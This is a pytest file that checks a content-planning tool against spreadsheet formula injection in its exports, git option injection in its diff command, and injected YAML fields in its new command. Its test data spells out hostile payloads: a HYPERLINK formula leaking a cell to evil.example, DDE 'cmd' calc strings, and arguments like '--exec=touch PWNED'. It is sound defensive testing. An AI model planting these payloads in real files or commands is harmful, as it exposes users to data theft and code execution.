"""Hostile plans against the team's commands: exports opened in spreadsheets,
`plansite diff` given options as revisions, `plansite new` given values it must not write."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from generator.check import Inputs, check_plan
from generator.commands import export
from generator.commands.diff import RevisionError, verified_commit
from generator.commands.spreadsheet_cells import as_text_cell, formula_start
from tests.conftest import PlanFactory, run_cli

# -- spreadsheet formulas in exports ---------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "  =1+1",  # spaces before the sign
    "\u00a0=1+1",  # a no-break space
    "\u3000=1+1",  # an ideographic space
    '"=1+1',  # a quote before the sign
    " ' \" @A1",
    "\u200b=1+1",  # a zero-width space
    "\ufeff=1+1",  # a byte-order mark
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20A1",  # full-width @
    "\ufe661+1",  # small =
    "\tSome text",  # tab, carriage return, line feed: OWASP's first characters
    "\rSome text",
    "\nSome text",
    "\r\n=1+1",
    "\x00Some text",
]
PLAIN_TEXTS = [
    "Hello",
    "Soldes : -20 %",
    "1-2",
    "a=b",
    "sam@example.com",
    "https://shop.example/?a=1&utm_source=x",
    "2027-01-05",
    "10:00",
    "Europe/Paris",
    "",
    "« -20 % »",
    "'=1+1",  # a leading apostrophe already makes the cell text
    "Line one\n=not a cell start",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_run_as_a_formula_is_kept_as_text(text: str) -> None:
    assert formula_start(text)
    assert as_text_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN_TEXTS)
def test_plain_text_cells_are_left_as_they_are(text: str) -> None:
    assert formula_start(text) == ""
    assert as_text_cell(text) == text


def _row(**fields: str) -> export.Row:
    defaults = dict.fromkeys(export.Row.__dataclass_fields__, "x")
    return export.Row(**{**defaults, **fields})


def _parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("field", list(export.Row.__dataclass_fields__))
def test_every_csv_column_is_neutralised(field: str) -> None:
    found = [_row(**{field: formula}) for formula in FORMULAS]
    header, *rows = _parsed(export.as_csv(found))
    column = header.index(field)
    assert [row[column] for row in rows] == ["'" + formula for formula in FORMULAS]
    others = {cell for row in rows for i, cell in enumerate(row) if i != column}
    assert others == {"x"}


TRICKY_TEXTS = [
    "a\rb",
    "a\nb",
    "a\r\nb",
    "end\r",
    "\r",
    'say "hi"',
    '"',
    "a, b, c",
    "a; b; =c",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "=1+1",
    "=1+1\r=2+2",
    "\u00e9t\u00e9 \U0001f600",
]


def test_every_csv_row_parses_back_as_one_occurrence() -> None:
    found = [_row(title=t, copy=c) for t in TRICKY_TEXTS for c in reversed(TRICKY_TEXTS)]
    header, *rows = _parsed(export.as_csv(found))
    assert len(rows) == len(found)
    assert all(len(row) == len(header) for row in rows)
    title, copy = header.index("title"), header.index("copy")
    assert [(r[title], r[copy]) for r in rows] == [
        (as_text_cell(row.title), as_text_cell(row.copy)) for row in found
    ]


HOSTILE_CALENDAR = """\
    posts:
      - id: link-formula
        date: 2027-03-02
        time: "10:00"
        channel: instagram
        type: tips
        title: '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        copy: Fine copy
        owner: "@sam"
        link: https://shop.example/a
      - id: plus
        date: 2027-03-03
        time: "10:00"
        channel: instagram
        title: "+cmd|' /C calc'!A0"
      - id: minus
        date: 2027-03-04
        time: "10:00"
        channel: instagram
        title: "-2+3+cmd|' /C calc'!A0"
      - id: at-sign
        date: 2027-03-05
        time: "10:00"
        channel: instagram
        title: "@SUM(1+1)"
      - id: spaced
        date: 2027-03-06
        time: "10:00"
        channel: instagram
        title: "   =1+1"
      - id: quoted
        date: 2027-03-07
        time: "10:00"
        channel: instagram
        title: "\\"=1+1"
      - id: full-width
        date: 2027-03-08
        time: "10:00"
        channel: instagram
        title: "\uff1d1+1"
      - id: fine
        date: 2027-03-09
        time: "10:00"
        channel: instagram
        title: "Fine, with a comma; and a semicolon"
        copy: |
          =Second line starts with a sign
          "quoted", and more
        owner: "=owner"
        link: https://shop.example/b
    """


def test_export_csv_of_a_hostile_plan_holds_no_formula(make_plan: PlanFactory) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    result = run_cli("export", "csv", cwd=root)
    assert result.exit_code == 0, result.output
    header, *rows = _parsed(result.stdout)
    assert len(rows) == 8
    assert not [cell for row in rows for cell in row if formula_start(cell)]
    by_title = {row[header.index("title")]: row for row in rows}
    assert by_title["'   =1+1"][header.index("date")] == "2027-03-06"
    fine = by_title["Fine, with a comma; and a semicolon"]
    assert fine[header.index("copy")] == '\'=Second line starts with a sign\n"quoted", and more\n'
    assert fine[header.index("owner")] == "'=owner"
    assert by_title["'@SUM(1+1)"][header.index("owner")] == ""
    # Every cell is quoted: a separator or a quote in a text never ends its cell.
    assert all(line.startswith('"') for line in result.stdout.splitlines() if line)


def test_export_json_keeps_the_text_as_written(make_plan: PlanFactory) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    rows = json.loads(run_cli("export", "json", cwd=root).stdout)
    assert rows[0]["title"] == '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_hootsuite_leaves_out_and_names_posts_a_spreadsheet_would_run(
    make_plan: PlanFactory,
) -> None:
    root = make_plan({"plan/calendar/q1.yml": HOSTILE_CALENDAR})
    result = run_cli("export", "hootsuite", "--out", "hs", cwd=root)
    assert result.exit_code == 0, result.output
    with (root / "hs" / "instagram.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows == [
        [
            "09/03/2027 10:00",
            "Fine, with a comma; and a semicolon\n\n"
            '=Second line starts with a sign\n"quoted", and more\n',
            "https://shop.example/b?utm_source=instagram&utm_medium=social&utm_content=fine",
        ]
    ]
    warnings = [line for line in result.stderr.splitlines() if "formula" in line]
    assert len(warnings) == 7
    assert (
        'warning: 2027-03-02 \'=HYPERLINK("https://evil.example/?"&A1,"Click")\' on instagram: '
        "left out, its title starts with '=', which a spreadsheet would run as a formula; "
        "begin the title with a letter or a digit"
    ) in warnings
    assert any(w.startswith("warning: 2027-03-08 '\uff1d1+1'") for w in warnings)


REPEATED_CALENDAR = (
    "posts:\r\n"
    "  - id: weekly\r\n"
    "    date: 2027-03-02\r\n"
    "    time: '10:00'\r\n"
    "    channel: instagram\r\n"
    "    title: 'Say \"hi\", twice; =SUM(1)'\r\n"
    "    copy: |\r\n"
    "      =First line\r\n"
    '      "Second", line; with a comma\r\n'
    "\r\n"
    "      @after a blank line\r\n"
    "    repeat: {every: week, count: 5}\r\n"
    "  - id: daily\r\n"
    "    date: 2027-03-01\r\n"
    "    time: '09:00'\r\n"
    "    channel: instagram\r\n"
    "    title: '=HYPERLINK(\"https://evil.example\")'\r\n"
    "    repeat: {every: day, count: 4}\r\n"
)


def test_every_export_parses_back_to_one_row_per_occurrence(make_plan: PlanFactory) -> None:
    root = make_plan()
    (root / "plan" / "calendar" / "q1.yml").write_bytes(REPEATED_CALENDAR.encode())  # CRLF
    occurrences = json.loads(run_cli("export", "json", cwd=root).stdout)
    assert len(occurrences) == 9
    header, *rows = _parsed(run_cli("export", "csv", cwd=root).stdout)
    assert len(rows) == 9
    assert [row[header.index("date")] for row in rows] == [o["date"] for o in occurrences]
    copies = {row[header.index("copy")] for row in rows}
    assert copies == {"", '\'=First line\n"Second", line; with a comma\n\n@after a blank line\n'}
    result = run_cli("export", "hootsuite", "--out", "hs", cwd=root)
    with (root / "hs" / "instagram.csv").open(newline="", encoding="utf-8") as file:
        published = list(csv.reader(file))
    assert len(published) == 5  # the weekly post; the daily one is left out, 4 warnings
    assert (
        sum("left out, its title starts with '='" in line for line in result.stderr.splitlines())
        == 4
    )
    assert {row[1].split("\n\n")[0] for row in published} == {'Say "hi", twice; =SUM(1)'}


LONG_AGO = datetime(2020, 1, 1, tzinfo=UTC)  # every post is in the future


def _hootsuite_of(
    make_plan: PlanFactory, titles_and_copies: list[tuple[str, str]]
) -> tuple[list[list[str]], list[str]]:
    """Hootsuite rows and warnings of the minimal plan's post made into one post per
    (title, copy): texts the plan loader may refuse reach the export this way."""
    root = make_plan()
    checked = check_plan(Inputs(root / "plan", root / "site_config.yml"))
    (post,) = checked.plan.posts
    posts = tuple(
        replace(post, id=f"p{i:03}", title=title, copy=copy)
        for i, (title, copy) in enumerate(titles_and_copies)
    )
    files, warnings = export.hootsuite(replace(checked.plan, posts=posts), checked.config, LONG_AGO)
    return [row for file in files for row in _parsed(file.text)], warnings


def test_hootsuite_rows_parse_back_one_per_post(make_plan: PlanFactory) -> None:
    rows, warnings = _hootsuite_of(make_plan, [(f"Title {t}", t) for t in TRICKY_TEXTS])
    assert len(rows) == len(TRICKY_TEXTS)
    assert sorted(row[1] for row in rows) == sorted(f"Title {t}\n\n{t}" for t in TRICKY_TEXTS)
    assert warnings == []


def test_hootsuite_checks_the_start_of_the_message(make_plan: PlanFactory) -> None:
    titles = [*FORMULAS, "  ", *PLAIN_TEXTS]
    rows, warnings = _hootsuite_of(make_plan, [(title, "=copy") for title in titles])
    plain = [t for t in PLAIN_TEXTS if t and not t.isspace()]
    assert [row[1].split("\n\n")[0] for row in rows] == plain
    assert len(warnings) == len(FORMULAS) + 2  # the blank title and the empty one: copy first
    assert sum("its copy starts with '='" in w for w in warnings) == 2
    assert not [cell for row in rows for cell in row if formula_start(cell)]


# -- plansite diff: revisions are verified commits, never options --------------


def git(root: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True)
    return done.stdout.strip()


def _committed(root: Path) -> Path:
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qm", "plan")
    return root


@pytest.fixture
def repository(make_plan: PlanFactory) -> Path:
    """The minimal plan committed to git, with a file an option could overwrite."""
    root = _committed(make_plan())
    (root / "FILE").write_text("keep me\n")
    return root


@pytest.mark.parametrize(
    "arguments",
    [
        ["--", "--output=FILE"],
        ["--", "--output", "FILE"],
        ["--", "-o", "FILE"],
        ["--", "-oFILE"],
        ["--", "--remote=."],
        ["--", "--exec=touch PWNED"],
        ["--", "--list"],
        ["--", "-"],
        ["--", ""],
        ["--", "HEAD\nHEAD"],
        ["--", "HEAD\r"],
        ["--", "HEAD\t--output=FILE"],
        ["--", "--end-of-options"],
    ],
)
def test_diff_refuses_what_git_would_read_as_an_option(
    repository: Path, arguments: list[str]
) -> None:
    result = run_cli("diff", *arguments, cwd=repository)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert (repository / "FILE").read_text() == "keep me\n"
    assert not (repository / "PWNED").exists()
    assert sorted(p.name for p in repository.iterdir()) == [
        ".git", "FILE", "plan", "site_config.yml"
    ]  # fmt: skip


@pytest.mark.parametrize("revision", ["--output=FILE", "-oFILE", "--list", "--remote=."])
def test_only_a_verified_commit_id_reaches_git(repository: Path, revision: str) -> None:
    """Even without the command line's own check, git reads the text as a revision."""
    with pytest.raises(RevisionError, match="unknown revision"):
        verified_commit(revision, repository)
    assert (repository / "FILE").read_text() == "keep me\n"


def test_diff_names_what_is_not_a_commit(repository: Path) -> None:
    tree = git(repository, "rev-parse", "HEAD:plan")
    blob = git(repository, "rev-parse", "HEAD:site_config.yml")
    expected = {
        "no-such-revision": "unknown revision 'no-such-revision'",
        "HEAD x": "unknown revision 'HEAD x'",
        "HEAD~5": "unknown revision 'HEAD~5'",
        tree: f"'{tree}' names a folder (a git tree), not a commit",
        blob: f"'{blob}' names a file (a git blob), not a commit",
        "HEAD:plan": "'HEAD:plan' names a folder (a git tree), not a commit",
        "HEAD^{tree}": "'HEAD^{tree}' names a folder (a git tree), not a commit",
    }
    for revision, message in expected.items():
        result = run_cli("diff", revision, cwd=repository)
        assert result.exit_code == 2, result.output  # the command line to change
        assert result.stderr.endswith(
            f"Error: Invalid value for REVISION: {message} (give a branch, a tag, HEAD~1 "
            "or a commit id; `git log --oneline` lists commits)\n"
        )


def test_diff_accepts_every_way_of_naming_a_commit(repository: Path) -> None:
    git(repository, "-c", "user.email=t@example.com", "-c", "user.name=T",
        "tag", "-a", "v1", "-m", "first")  # fmt: skip
    commit = git(repository, "rev-parse", "HEAD")
    branch = git(repository, "rev-parse", "--abbrev-ref", "HEAD")
    for revision in ("HEAD", "v1", branch, commit, commit[:12], "HEAD~0", "HEAD^{commit}"):
        result = run_cli("diff", revision, cwd=repository)
        assert result.exit_code == 0, (revision, result.output)
        assert result.stdout == (
            f"nothing changed in goals, missions, accounts or posts since {revision}\n"
        )


def test_diff_with_a_config_outside_the_repository(repository: Path, tmp_path: Path) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside.yml"
    outside.write_text((repository / "site_config.yml").read_text())
    result = run_cli("diff", "--config", str(outside), "HEAD", cwd=repository)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --config" in result.stderr
    assert "is outside the git repository of the plan" in result.stderr
    outside.unlink()


def test_diff_of_a_plan_outside_any_repository(make_plan: PlanFactory) -> None:
    root = make_plan()
    if subprocess.run(["git", "rev-parse"], cwd=root, capture_output=True).returncode == 0:
        pytest.skip("the temporary folder is inside a git repository")
    result = run_cli("diff", "HEAD", cwd=root)
    assert result.exit_code == 2, result.output
    assert "Invalid value for --plan: the plan folder plan is not in a git repository" in (
        result.stderr
    )


def test_diff_with_a_config_added_after_the_revision(repository: Path) -> None:
    (repository / "site_config.yml").rename(repository / "config.yml")
    git(repository, "add", "-A")
    git(repository, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-qm", "mv")
    result = run_cli("diff", "--config", "config.yml", "HEAD~1", cwd=repository)
    assert result.exit_code == 2, result.output
    assert result.stderr.endswith(
        "Error: Invalid value for REVISION: config.yml is not in the repository at HEAD~1: "
        "compare with a later revision\n"
    )


@pytest.mark.parametrize("folder", [":(exclude)plan", "p*", ":!plan", "*"])
def test_diff_reads_plan_folders_by_their_literal_name(make_plan: PlanFactory, folder: str) -> None:
    """Folder names are paths for git, never pathspec magic."""
    root = make_plan()
    (root / "plan").rename(root / folder)
    _committed(root)
    calendar = root / folder / "calendar" / "q1.yml"
    calendar.write_text(calendar.read_text().replace("title: Hello", "title: Bye"))
    result = run_cli("diff", "--plan", folder, "HEAD", cwd=root)
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines()[1:] == ["  ~ post hello changed", "      title: Hello -> Bye"]


# -- plansite new: only what check accepts, line endings kept, written at once ----

CALENDAR = "plan/calendar/q1.yml"
NEW_POST = ["new", "post", "--title", "Open day", "--date", "2027-04-10", "--channel", "instagram"]


def _with(arguments: list[str], option: str, value: str) -> list[str]:
    if option in arguments:
        changed = list(arguments)
        changed[changed.index(option) + 1] = value
        return changed
    return [*arguments, option, value]


@pytest.mark.parametrize(
    "option, value",
    [
        ("--date", "2027-04-10\nfoo: bar"),
        ("--date", "2027-04-10\r"),
        ("--date", "2027-13-01"),
        ("--date", "2027-02-30"),
        ("--date", "tomorrow"),
        ("--date", "2027-04-10 10:00"),
        ("--time", "25:00"),
        ("--time", "10:60"),
        ("--time", "10h"),
        ("--time", "10:00\n"),
        ("--channel", "Not A Slug"),
        ("--channel", "insta gram"),
        ("--channel", "-instagram"),
        ("--channel", "instagram\u2028"),
        ("--id", "Bad_Id"),
        ("--id", "a" * 65),
        ("--id", "ok\nid: other"),
        ("--title", "Open\nday"),
        ("--title", "Open\rday"),
        ("--title", "Open\u2028day"),
        ("--title", "Open\tday"),
        ("--title", "Open\x00day"),
        ("--title", "!!!"),  # makes no id
    ],
)
def test_new_refuses_a_value_check_would_refuse(
    make_plan: PlanFactory, option: str, value: str
) -> None:
    root = make_plan()
    before = (root / CALENDAR).read_bytes()
    result = run_cli(*_with(NEW_POST, option, value), cwd=root)
    assert result.exit_code == 2, result.output
    assert f"Invalid value for {option}" in result.stderr
    assert (root / CALENDAR).read_bytes() == before
    assert sorted(p.name for p in (root / "plan" / "calendar").iterdir()) == ["q1.yml"]


@pytest.mark.parametrize(
    "arguments, option",
    [
        (["new", "channel", "--id", "myspace", "--network", "myspace"], "--network"),
        (["new", "goal", "--id", "Bad", "--title", "x"], "--id"),
        (["new", "persona", "--title", "Paula\nname: other"], "--title"),
        (["new", "campaign", "--id", "c", "--title", "C", "--date", "2027-04-31"], "--date"),
        (["new", "goal", "--title", "x", "--plan", "no-such-folder"], "--plan"),
    ],
)
def test_new_refuses_bad_values_for_every_kind(
    make_plan: PlanFactory, arguments: list[str], option: str
) -> None:
    root = make_plan()
    files = sorted(p for p in root.rglob("*") if p.is_file())
    result = run_cli(*arguments, cwd=root)
    assert result.exit_code == 2, result.output
    assert f"Invalid value for {option}" in result.stderr
    assert sorted(p for p in root.rglob("*") if p.is_file()) == files


YAML_SIGNIFICANT = [
    "#hashtag",
    "Open day: come",
    "- a dash",
    "[in brackets]",
    "{in braces}",
    "&anchor *alias",
    "!tag",
    "| or >",
    "%directive",
    "@handle",
    "`backtick`",
    "'single'",
    '"double"',
    "no",
    "yes",
    "null",
    "~",
    "true",
    "1e3",
    "0x1F",
    "12",
    "10:00",
    "2027-01-05",
    " leading space",
    "trailing space ",
    "a # not a comment",
    "---",
    "...",
    "\u00e9t\u00e9 \u00ab lampes \u00bb \U0001f600",
    "=HYPERLINK(1)",
]


@pytest.mark.parametrize("title", YAML_SIGNIFICANT)
def test_new_writes_any_title_exactly(make_plan: PlanFactory, title: str) -> None:
    root = make_plan()
    result = run_cli(*_with(NEW_POST, "--title", title), "--id", "new-post", cwd=root)
    assert result.exit_code == 0, result.output
    for kind in ("goal", "persona"):
        created = run_cli("new", kind, "--id", f"new-{kind}", "--title", title, cwd=root)
        assert created.exit_code == 0, created.output
    check = run_cli("check", cwd=root)
    assert check.exit_code == 0, check.output
    rows = json.loads(run_cli("export", "json", cwd=root).stdout)
    assert [r["title"] for r in rows if r["date"] == "2027-04-10"] == [title]
    plan = check_plan(Inputs(root / "plan", root / "site_config.yml")).plan
    assert plan.goal("new-goal").title == title
    assert plan.persona("new-persona").name == title


CRLF_CALENDAR = (
    "# The first quarter\r\n"
    "posts:\r\n"
    "  - id: hello   # the first post\r\n"
    "    date: 2027-01-05\r\n"
    "    time: '10:00'\r\n"
    "    channel: instagram\r\n"
    "    type: tips\r\n"
    "    title: Hello\r\n"
    "\r\n"
    "# campaigns come later\r\n"
)


def _calendar_bytes(root: Path, data: bytes) -> Path:
    path = root / CALENDAR
    path.write_bytes(data)
    return path


def _new_post(newline: str) -> str:
    """The item `new post` (NEW_POST at 10:00) writes, with the file's line ending."""
    lines = ["  - id: open-day", "    date: '2027-04-10'", "    time: '10:00'",
             "    channel: instagram", "    title: Open day", "    copy: ''",
             "    status: draft"]  # fmt: skip
    return "".join(line + newline for line in lines)


POSTS, COMMENT = CRLF_CALENDAR.split("\r\n\r\n")  # the posts, the comment after them
CR, LF = "\r\n", "\n"


def _lf(text: str) -> str:
    return text.replace(CR, LF)


@pytest.mark.parametrize(
    "original, expected",
    [
        (CRLF_CALENDAR, POSTS + CR + _new_post(CR) + CR + COMMENT),
        (CRLF_CALENDAR.removesuffix(CR),
         POSTS + CR + _new_post(CR) + CR + COMMENT.removesuffix(CR)),
        (_lf(CRLF_CALENDAR), _lf(POSTS) + LF + _new_post(LF) + LF + _lf(COMMENT)),
        (_lf(POSTS), _lf(POSTS) + LF + _new_post(LF)),  # no final line ending
        (POSTS, POSTS + CR + _new_post(CR)),
        ("posts: []   # none yet\r\ncampaigns: []\r\n",
         "posts: # none yet\r\n" + _new_post(CR) + "campaigns: []\r\n"),
        ("posts: [ ]\n", "posts:\n" + _new_post(LF)),
        ("posts:\r\n", "posts:\r\n" + _new_post(CR)),
        ("posts: ~\r\ncampaigns: []\r\n", "posts:\r\n" + _new_post(CR) + "campaigns: []\r\n"),
        ("# nothing yet\r\n", "# nothing yet\r\nposts:\r\n" + _new_post(CR)),
        ("# nothing yet", "# nothing yet\nposts:\n" + _new_post(LF)),
        ("", "posts:\n" + _new_post(LF)),
    ],
)  # fmt: skip
def test_new_keeps_the_line_endings_comments_and_layout(
    make_plan: PlanFactory, original: str, expected: str
) -> None:
    root = make_plan()
    path = _calendar_bytes(root, original.encode())
    result = run_cli(*NEW_POST, "--time", "10:00", cwd=root)
    assert result.exit_code == 0, result.output
    assert path.read_bytes().decode() == expected
    check = run_cli("check", cwd=root)
    assert check.exit_code == 0, check.output


def test_new_refuses_what_would_not_read_back(make_plan: PlanFactory) -> None:
    root = make_plan()
    original = b"posts:\n  - id: a\n    date: 2027-01-05\n    channel: instagram\n" + (
        b"    title: A\n    copy: |+\n      kept line breaks\n\n"
    )
    path = _calendar_bytes(root, original)
    result = run_cli(*NEW_POST, cwd=root)
    assert result.exit_code == 1, result.output
    assert "would not read back as written" in result.stderr
    assert path.read_bytes() == original


@pytest.mark.parametrize(
    "original, message",
    [
        (b"\xef\xbb\xbfposts: []\n", "byte-order mark"),
        (b"posts: [\n", "invalid YAML"),
        (b"- a list\n", "is not a mapping of fields"),
        (b"posts: {a: 1}\n", "'posts' is not a block list"),
        (b"posts: \xff\n", "not valid UTF-8"),
    ],
)
def test_new_on_a_broken_calendar_says_so(
    make_plan: PlanFactory, original: bytes, message: str
) -> None:
    root = make_plan()
    path = _calendar_bytes(root, original)
    result = run_cli(*NEW_POST, cwd=root)
    assert result.exit_code == 1, result.output
    assert result.stderr.startswith("error: ")
    assert message in result.stderr
    assert path.read_bytes() == original


def test_new_does_not_write_through_a_symbolic_link(make_plan: PlanFactory, tmp_path: Path) -> None:
    root = make_plan()
    elsewhere = tmp_path / "elsewhere.yml"
    elsewhere.write_text("posts: []\n")
    (root / CALENDAR).unlink()
    (root / CALENDAR).symlink_to(elsewhere)
    result = run_cli(*NEW_POST, cwd=root)
    assert result.exit_code == 1, result.output
    assert "symbolic link" in result.stderr
    assert elsewhere.read_text() == "posts: []\n"
    assert (root / CALENDAR).is_symlink()


@pytest.mark.parametrize("failing", ["fsync", "replace"])
@pytest.mark.parametrize("error", [KeyboardInterrupt, OSError(28, "No space left on device")])
def test_an_interrupted_new_leaves_the_calendar_whole(
    make_plan: PlanFactory, monkeypatch: pytest.MonkeyPatch, failing: str, error: BaseException
) -> None:
    root = make_plan()
    before = (root / CALENDAR).read_bytes()

    def fail(*args: object) -> None:
        raise error

    monkeypatch.setattr(f"generator.commands.new.os.{failing}", fail)
    result = run_cli(*NEW_POST, cwd=root)
    if isinstance(error, OSError):
        assert result.exit_code == 1
        assert result.stderr.startswith("error: cannot write to ")
    else:
        assert result.exit_code == 130
        assert result.stderr == "interrupted; plan/ was left as it was.\n"
    assert (root / CALENDAR).read_bytes() == before
    assert sorted(p.name for p in (root / "plan" / "calendar").iterdir()) == ["q1.yml"]


def test_new_keeps_the_calendar_file_permissions(make_plan: PlanFactory) -> None:
    root = make_plan()
    (root / CALENDAR).chmod(0o640)
    assert run_cli(*NEW_POST, cwd=root).exit_code == 0
    assert (root / CALENDAR).stat().st_mode & 0o777 == 0o640
    assert run_cli("new", "goal", "--title", "More", cwd=root).exit_code == 0
    goal = root / "plan" / "goals" / "more.md"
    assert (
        goal.stat().st_mode & 0o777 == (root / "plan" / "goals" / "reach.md").stat().st_mode & 0o777
    )
